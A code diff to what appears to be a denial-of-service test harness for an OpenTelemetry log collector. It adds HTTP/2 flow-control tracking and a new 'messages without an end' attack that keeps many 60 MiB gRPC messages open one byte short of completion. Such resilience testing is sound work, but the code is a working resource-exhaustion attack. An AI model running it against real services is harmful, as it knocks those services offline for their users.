@@ -21,13 +21,15 @@ OPENED = 2500  # at most so many a second
 STREAMS = 10_000
 # Frames a second, sent in parts of so many. More tells how fast the attacker is.
 FRAMES, PART = 10_000, 200
+BYTES = 256 << 20  # a second, of those who send much
 CALLS = 16  # at a time on one connection: as many as it may have
 EXPORT = b"/opentelemetry.proto.collector.logs.v1.LogsService/Export"
 POST = b"POST /v1/logs HTTP/1.1\r\nhost: x\r\ncontent-type: application/x-protobuf\r\n"
 
 # HTTP/2.
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
-DATA, HEADERS, RST, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
+DATA, HEADERS, RST, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
+INITIAL_WINDOW_SIZE = 4
 ACK = END_STREAM = 1
 END_HEADERS = 4
 
@@ -218,6 +220,72 @@ def half_calls(port: int) -> None:
     _trickle(port, b"", frame(DATA, 0, 1, b"x"), opened=opened, pace=FRAMES / (2 * CALLS))
 
 
+class _Window:
+    """What a server lets a peer send: RFC 9113, 5.2 and 6.9."""
+
+    def __init__(self) -> None:
+        self._first = 65_535
+        self.connection = 65_535
+        self.streams: dict[int, int] = {}
+        self._rest = b""
+
+    def open(self, stream: int) -> None:
+        self.streams[stream] = self._first
+
+    def heard(self, data: bytes) -> None:
+        data = self._rest + data
+        while len(data) >= 9 and len(data) >= (end := 9 + int.from_bytes(data[:3], "big")):
+            kind, flags, stream, payload = data[3], data[4], int.from_bytes(data[5:9], "big"), data[9:end]
+            data = data[end:]
+            if kind == WINDOW_UPDATE and stream == 0:
+                self.connection += int.from_bytes(payload, "big")
+            elif kind == WINDOW_UPDATE and stream in self.streams:
+                self.streams[stream] += int.from_bytes(payload, "big")
+            elif kind == SETTINGS and not flags & ACK:
+                self._settings(payload)
+            elif kind == RST or (kind == HEADERS and flags & END_STREAM):
+                self.streams.pop(stream, None)
+        self._rest = data
+
+    def _settings(self, payload: bytes) -> None:
+        for number, value in struct.iter_unpack(">HI", payload):
+            if number == INITIAL_WINDOW_SIZE:
+                self.streams = {stream: left + value - self._first for stream, left in self.streams.items()}
+                self._first = value
+
+
+def unfinished(port: int) -> None:
+    """Messages of 60 MiB without their last byte, as many as some connections may have; who is refused comes again."""
+    size, peers = 60 << 20, 4
+    while True:
+        with contextlib.suppress(OSError), contextlib.ExitStack() as stack:
+            known: dict[socket.socket, tuple[_Window, dict[int, int]]] = {}
+            for _ in range(peers):
+                peer = stack.enter_context(greeted(port))
+                peer.setblocking(False)
+                window, left = _Window(), dict.fromkeys(range(1, 2 * CALLS, 2), size)
+                for stream in left:
+                    window.open(stream)
+                    begun = frame(DATA, 0, stream, b"\x00" + struct.pack(">I", size + 1))
+                    peer.sendall(frame(HEADERS, END_HEADERS, stream, block()) + begun)
+                known[peer] = window, left
+            while any(window.streams for window, _ in known.values()):
+                began = time.monotonic()
+                for peer, (window, left) in known.items():
+                    with contextlib.suppress(BlockingIOError):
+                        window.heard(peer.recv(1 << 16))
+                    for stream in list(window.streams):
+                        part = min(1 << 14, window.connection, window.streams[stream], left[stream])
+                        if part > 0:
+                            peer.setblocking(True)
+                            peer.sendall(frame(DATA, 0, stream, bytes(part)))
+                            peer.setblocking(False)
+                            window.connection -= part
+                            window.streams[stream] -= part
+                            left[stream] -= part
+                time.sleep(max(0.0, peers * CALLS / BYTES * (1 << 14) - (time.monotonic() - began)))
+
+
 # name -> (the door, the attack)
 ATTACKS: dict[str, tuple[str, Callable[[int], None]]] = {
     "slow headers": ("http", slow_headers),
@@ -231,6 +299,7 @@ ATTACKS: dict[str, tuple[str, Callable[[int], None]]] = {
     "PING": ("grpc", pings),
     "calls that never end": ("grpc", half_calls),
     "10,000 HTTP/2 connections": ("grpc", flood_greeted),
+    "messages without an end": ("grpc", unfinished),
 }
 
 if __name__ == "__main__":
